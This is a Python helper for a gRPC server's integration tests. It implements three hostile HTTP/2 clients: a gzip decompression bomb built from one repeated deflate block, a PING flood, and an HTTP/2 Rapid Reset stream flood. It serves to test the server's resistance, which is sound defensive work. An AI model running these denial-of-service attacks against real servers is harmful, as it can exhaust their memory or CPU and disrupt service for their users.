#!/usr/bin/python3
"""Hostile HTTP/2 clients for the integration tests (hostile_clients_test.cc).

Each subcommand attacks the gRPC server at HOST:PORT as an outside client
would, without credentials, and prints one line `key=value ...` saying what
it saw, for the test to check.

  bomb HOST:PORT MIB     one gRPC request whose gzip message inflates to MIB
                         MiB of zeros (about MIB KiB on the wire); prints the
                         answer's grpc-status.
  pingflood HOST:PORT N  N PING frames with no data in between; prints
                         whether a GOAWAY came and the connection closed.
  rapidreset HOST:PORT SECONDS
                         opens streams and resets each at once, for SECONDS
                         or until the server closes the connection; prints
                         how many streams were reset and how it ended.
"""
import socket
import struct
import sys
import time
import zlib

import h2.config
import h2.connection
import h2.events
import h2.exceptions

METHOD = "/inrapport.v1.DutyRegistry/CreateDuty"


def connect(address):
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=30)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def request_headers(address, encoding=None):
    headers = [(":method", "POST"), (":scheme", "http"), (":path", METHOD),
               (":authority", address), ("content-type", "application/grpc"),
               ("te", "trailers")]
    if encoding:
        headers.append(("grpc-encoding", encoding))
    return headers


def gzip_of_zeros(mib):
    """A gzip member that inflates to `mib` MiB of zeros, built without
    compressing them all: after a full flush, deflate emits the same block
    for every further MiB of zeros, so it is repeated."""
    chunk = bytes(1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    first = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    repeated = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    assert repeated == again, "deflate did not settle on one block"
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    # A final empty block (fixed Huffman codes), then CRC-32 and ISIZE.
    trailer = b"\x03\x00" + struct.pack("<II", crc, (mib << 20) & 0xFFFFFFFF)
    body = header + first + repeated * (mib - 1) + trailer
    # Checks the construction on a small sample: it must be valid gzip.
    if mib <= 4:
        assert zlib.decompress(body, 31) == bytes(mib << 20)
    return body


def read_events(sock, conn):
    data = sock.recv(65536)
    if not data:
        return None
    events = conn.receive_data(data)
    pending = conn.data_to_send()
    if pending:
        sock.sendall(pending)
    return events


def bomb(address, mib):
    message = gzip_of_zeros(mib)
    frame = struct.pack(">BI", 1, len(message)) + message
    sock, conn = connect(address)
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, request_headers(address, "gzip"))
    sock.sendall(conn.data_to_send())
    sent = 0
    status = None
    message_text = ""
    closed = False
    start = time.monotonic()
    while status is None and not closed:
        while sent < len(frame):
            window = min(conn.local_flow_control_window(stream), conn.max_outbound_frame_size)
            if window <= 0:
                break
            piece = frame[sent:sent + window]
            sent += len(piece)
            conn.send_data(stream, piece, end_stream=sent == len(frame))
            sock.sendall(conn.data_to_send())
        try:
            events = read_events(sock, conn)
        except (ConnectionError, socket.timeout, h2.exceptions.ProtocolError):
            events = None
        if events is None:
            closed = True
            break
        for event in events:
            if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for name, value in event.headers:
                    if name == "grpc-status":
                        status = value
                    elif name == "grpc-message":
                        message_text = value
            elif isinstance(event, h2.events.StreamReset):
                status = status or "reset:%d" % event.error_code
            elif isinstance(event, h2.events.ConnectionTerminated):
                closed = True
    print("grpc_status=%s sent_bytes=%d wire_bytes=%d seconds=%.2f message=%r" %
          (status, sent, len(frame), time.monotonic() - start, message_text))


def pingflood(address, count):
    sock, conn = connect(address)
    goaway = None
    pings = 0
    closed = False
    # Each ping waits for its answer (its ACK, or the GOAWAY that ends the
    # connection), so that no ping is still unread by the server when it
    # closes: a close with unread data resets the connection, and the reset
    # can overtake the GOAWAY.
    sock.settimeout(5)
    for i in range(count):
        if goaway is not None:
            break
        try:
            conn.ping(struct.pack(">Q", i))
            sock.sendall(conn.data_to_send())
            pings += 1
        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
            closed = True
            break
        answered = False
        while not answered and not closed:
            try:
                events = read_events(sock, conn)
            except socket.timeout:
                break
            except (ConnectionError, OSError, h2.exceptions.ProtocolError):
                events = None
            if events is None:
                closed = True
                break
            for event in events:
                if isinstance(event, h2.events.PingAckReceived):
                    answered = True
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway = event.error_code
                    answered = True
        if closed:
            break
    sock.settimeout(10)
    deadline = time.monotonic() + 10
    while not closed and time.monotonic() < deadline:
        try:
            events = read_events(sock, conn)
        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
            events = None
        if events is None:
            closed = True
            break
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = event.error_code
    print("pings_sent=%d goaway=%s closed=%s" % (pings, goaway, closed))


def rapidreset(address, seconds):
    sock, conn = connect(address)
    sock.settimeout(0.0001)
    resets = 0
    goaway = None
    closed = False
    start = time.monotonic()
    while time.monotonic() - start < seconds and not closed:
        try:
            for _ in range(50):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, request_headers(address))
                conn.reset_stream(stream)
                resets += 1
            # Sent in full, as fast as the server reads: a full send buffer
            # is the server keeping up, not the connection closing.
            sock.settimeout(30)
            sock.sendall(conn.data_to_send())
            sock.settimeout(0.0001)
        except socket.timeout:
            break  # the server stopped reading: not closed
        except (ConnectionError, OSError, h2.exceptions.ProtocolError,
                h2.exceptions.NoAvailableStreamIDError):
            closed = True
            break
        try:
            while True:
                events = read_events(sock, conn)
                if events is None:
                    closed = True
                    break
                for event in events:
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = event.error_code
                        closed = True
        except (socket.timeout, BlockingIOError):
            pass
        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
            closed = True
    print("streams_reset=%d goaway=%s closed=%s seconds=%.2f" %
          (resets, goaway, closed, time.monotonic() - start))


def main():
    command, address, amount = sys.argv[1], sys.argv[2], int(sys.argv[3])
    {"bomb": bomb, "pingflood": pingflood, "rapidreset": rapidreset}[command](address, amount)


if __name__ == "__main__":
    main()
